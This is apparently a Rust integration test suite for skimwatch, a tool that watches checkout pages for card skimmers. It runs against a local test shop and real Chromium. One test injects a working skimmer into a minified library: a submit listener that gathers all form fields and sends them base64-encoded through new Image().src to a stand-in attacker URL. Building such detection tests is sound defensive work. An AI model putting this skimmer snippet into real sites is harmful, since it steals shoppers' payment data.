//! Issue 4 end to end: quiet on benign churn, loud and readable on real change. Real Chromium,
//! real SQLite, real baseline files, the shop on loopback.
//!
//! The 20 consecutive scans run in process through the library (`scan::scan_page`) with one
//! Chromium, to keep the suite fast; the report format and the trust policy are checked
//! through the real binary.

use crate::util::{describe, findings_of, Workspace};
use skimwatch::baseline::approve::{self, Choice};
use skimwatch::baseline::BaselineDir;
use skimwatch::capture::{self, Chromium};
use skimwatch::config::Config;
use skimwatch::model::{FindingKind, PageReport, PageStatus, ScanReport, ScriptKind, Severity};
use skimwatch::scan;
use skimwatch_testshop::{Origin, Shop, VolatileChange};
use std::sync::Arc;

const SCANS: usize = 20;

fn describe_page(p: &PageReport) -> String {
    describe(&ScanReport { pages: vec![p.clone()], intel: Vec::new() })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn volatile_checkout_is_silent_for_20_scans_and_code_changes_are_still_caught() {
    let shop = Shop::start_in_background().expect("shop");
    let url = shop.serve_volatile_checkout(VolatileChange::None);
    let dir = tempfile::tempdir().unwrap();
    let config_path = dir.path().join("skimwatch.toml");
    std::fs::write(
        &config_path,
        format!(
            "[storage]\ndatabase = \"state/skimwatch.db\"\nbaselines = \"baselines\"\n\n[browser]\nsettle = \"300ms\"\n\n\
             [[page]]\nname = \"volatile\"\nurl = \"{url}\"\nignore_query = [\"v\"]\ninteract = \"none\"\n"
        ),
    )
    .unwrap();
    let config = Config::load(&config_path).unwrap();
    let page = config.page("volatile").unwrap().clone();
    let store = scan::open_store(&config, false).await.unwrap();
    let baselines = Arc::new(BaselineDir::new(config.storage.baselines.clone()));
    let intel = scan::load_intel(&config).await.unwrap();
    let exe = capture::find_chromium(config.browser.executable.as_deref()).expect("chromium");
    let chromium = Chromium::launch(&exe).await.expect("launch chromium");

    // First scan: everything is new on a payment page.
    let first = scan::scan_page(&chromium, &page, &store, &baselines, &intel).await;
    assert_eq!(first.status, PageStatus::Ok, "{:?}", first.error);
    assert!(!first.payment_fields.is_empty());
    assert!(first.findings.iter().any(|f| f.kind == FindingKind::NewScript));
    let cfg = config.clone();
    tokio::task::spawn_blocking(move || approve::approve(&cfg, &[], &Choice::All, "test", "initial inventory"))
        .await
        .unwrap()
        .expect("approve");
    let file = std::fs::read_to_string(dir.path().join("baselines/volatile.toml")).unwrap();
    assert!(
        file.contains("normalized_sha256 = ") && file.contains("masked = "),
        "the baseline shows what is masked:\n{file}"
    );

    // 20 scans of pure churn.
    let mut false_findings = Vec::new();
    let mut inline_hashes = std::collections::BTreeSet::new();
    let mut ab_present = 0;
    let used = |store: &std::sync::Mutex<skimwatch::store::Store>| {
        let info = store.lock().unwrap().storage_info().unwrap();
        info.database_bytes - info.free_bytes
    };
    let mut after_first = 0;
    for i in 0..SCANS {
        if i == 1 {
            after_first = used(&store);
        }
        let report = scan::scan_page(&chromium, &page, &store, &baselines, &intel).await;
        assert_eq!(report.status, PageStatus::Ok, "scan {i}: {:?}", report.error);
        for f in report.findings.iter().filter(|f| f.severity >= Severity::Low) {
            false_findings.push(format!("scan {i}: {} {} {}", f.severity, f.kind, f.title));
        }
        assert!(report.scripts.iter().all(|s| s.approved), "scan {i}: {:?}", report.scripts);
        inline_hashes.extend(report.scripts.iter().filter(|s| s.kind == ScriptKind::Inline).map(|s| s.sha256.clone()));
        ab_present +=
            report.scripts.iter().any(|s| s.url.as_deref().is_some_and(|u| u.contains("ab-test.js"))) as usize;
    }
    println!("false findings (low or above) over {SCANS} scans: {}", false_findings.len());
    // Flat storage (issue 12): an unchanged rescan adds a scan row and references, not the page
    // again; volatile inline bodies are not stored again once their normalized form is known.
    let growth = (used(&store) - after_first) / (SCANS as u64 - 1);
    println!("database growth per unchanged rescan: {growth} bytes");
    assert!(growth <= 2048, "an unchanged rescan adds {growth} bytes (ceiling 2048)");
    assert!(false_findings.is_empty(), "{}", false_findings.join("\n"));
    // The churn was real: inline scripts changed every load, the A/B script came and went.
    assert!(inline_hashes.len() > 3 * SCANS, "only {} distinct inline versions", inline_hashes.len());
    assert!(ab_present > 0 && ab_present < SCANS, "A/B script present in {ab_present} of {SCANS} scans");

    // Each real change is still an altered_script of the changed inline script.
    let attacker = shop.host(Origin::Attacker);
    for (change, needle) in [
        (VolatileChange::ExfilHostInConfig, "window.shopConfig"),
        (VolatileChange::StatementAppendedToSession, "window.__session"),
        (VolatileChange::CallInsertedInCart, "window.cart"),
    ] {
        shop.serve_volatile_checkout(change);
        let report = scan::scan_page(&chromium, &page, &store, &baselines, &intel).await;
        let altered: Vec<_> = report
            .findings
            .iter()
            .filter(|f| f.kind == FindingKind::AlteredScript && f.diff.as_deref().is_some_and(|d| d.contains(needle)))
            .collect();
        assert_eq!(altered.len(), 1, "{change:?}:\n{}", describe_page(&report));
        let f = altered[0];
        assert_eq!(f.script.as_ref().unwrap().kind, ScriptKind::Inline);
        assert!(f.severity >= Severity::High, "payment page: {f:?}");
        match change {
            VolatileChange::ExfilHostInConfig => {
                let ip = attacker.split(':').next().unwrap();
                assert!(f.added_hosts.iter().any(|h| h == ip), "{:?}", f.added_hosts);
            }
            VolatileChange::StatementAppendedToSession => {
                assert!(
                    f.diff.as_deref().unwrap().lines().any(|l| l.starts_with('+') && l.contains("new Image()")),
                    "{:?}",
                    f.diff
                );
                assert!(f.hints.iter().any(|h| h.contains("src")), "{:?}", f.hints);
                assert_eq!(f.severity, Severity::Critical, "hints raise high to critical");
            }
            VolatileChange::CallInsertedInCart => {
                assert!(
                    f.diff.as_deref().unwrap().lines().any(|l| l.starts_with('+') && l.contains("sendBeacon")),
                    "{:?}",
                    f.diff
                );
                assert!(f.hints.iter().any(|h| h.contains("sendBeacon")), "{:?}", f.hints);
            }
            VolatileChange::None => unreachable!(),
        }
    }
    chromium.close().await;
}

/// `[[page.policy]] trust = "url"`: a vendor's content change is `info`, the baseline follows
/// with an audit entry, and the next scan reports no code change — only what the new code
/// does with the checkout.
#[test]
fn trusted_vendor_update_is_info_and_the_baseline_follows_with_an_audit_entry() {
    let ws = Workspace::new();
    let vendor = ws.shop.base(Origin::Vendor);
    let mut text = std::fs::read_to_string(&ws.config).unwrap();
    text.push_str(&format!(
        "\n[[page.policy]]\nmatch = \"{vendor}/analytics.js*\"\ntrust = \"url\"\nreason = \"Tagwell forbids pinning; contract TW-2024-17\"\n"
    ));
    std::fs::write(&ws.config, text).unwrap();
    ws.approved_baseline();
    ws.shop.alter_vendor_script();
    let (_, report) = ws.scan(&[]);
    let altered = findings_of(&report, FindingKind::AlteredScript);
    assert_eq!(altered.len(), 1, "{}", describe(&report));
    assert_eq!(altered[0].severity, Severity::Info);
    assert!(altered[0].policy.as_deref().unwrap().contains("TW-2024-17"));
    assert!(altered[0].diff.is_some(), "the change is still shown");
    let file = std::fs::read_to_string(ws.dir.path().join("baselines/checkout.toml")).unwrap();
    assert!(file.contains("[[audit]]") && file.contains("Tagwell forbids pinning"), "{file}");

    let (code, again) = ws.scan(&[]);
    assert!(findings_of(&again, FindingKind::AlteredScript).is_empty(), "{}", describe(&again));
    // Trust follows the vendor's code, never its behaviour: the update is a skimmer that wakes
    // when the default shopper presses Pay, and what it does is still a finding.
    let analytics = ws.shop.url(Origin::Vendor, "/analytics.js");
    let reads = findings_of(&again, FindingKind::PaymentFieldAccess);
    assert!(
        reads.iter().any(|f| f.script.as_ref().unwrap().url.as_deref().is_some_and(|u| u.starts_with(&analytics))),
        "{}",
        describe(&again)
    );
    let hosts: Vec<_> = findings_of(&again, FindingKind::NewHost).iter().filter_map(|f| f.host.clone()).collect();
    assert_eq!(hosts, [ws.shop.host(Origin::Attacker)], "{}", describe(&again));
    assert_eq!(code, 1);
}

/// The report a person reads when a minified library is altered: pretty-printed diff of the
/// changed hunks only, new hosts and hints above it. Printed for the note.
#[test]
fn altered_minified_library_report_reads_well() {
    let ws = Workspace::new();
    ws.approved_baseline();
    let exfil = ws.shop.exfil_url();
    let injected = format!(
        "document.addEventListener(\"submit\",function(e){{var f=document.forms[0],d={{}};for(var i=0;i<f.elements.length;i++)d[f.elements[i].name]=f.elements[i].value;new Image().src=\"{exfil}?d=\"+btoa(JSON.stringify(d))}},!0);"
    );
    // Inject in the middle of the one-line library, after its first statement-ending `;`.
    ws.shop.edit(Origin::Shop, "/static/js/vendor.min.js", |r| {
        let at = r.body.find("var A=Array.prototype").expect("library start");
        r.body.insert_str(at, &injected);
    });
    let out = ws.skimwatch().args(["scan", "--format", "text"]).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8(out.stdout).unwrap();
    println!("{text}");
    assert!(text.contains("altered_script Altered external script"), "{text}");
    let attacker_ip = ws.shop.host(Origin::Attacker).split(':').next().unwrap().to_string();
    assert!(text.contains(&format!("new hosts in code: {attacker_ip}")), "{text}");
    assert!(
        text.contains("hint:    reads document.forms") && text.contains("hint:    sets an image/script src"),
        "{text}"
    );
    assert!(text.contains("[CRITICAL]"), "hints raise the payment page's high to critical:\n{text}");
    let plus = text.lines().filter(|l| l.trim_start().starts_with('+') && !l.contains("+++")).count();
    assert!((3..40).contains(&plus), "only the injected statements are added ({plus} lines):\n{text}");
}
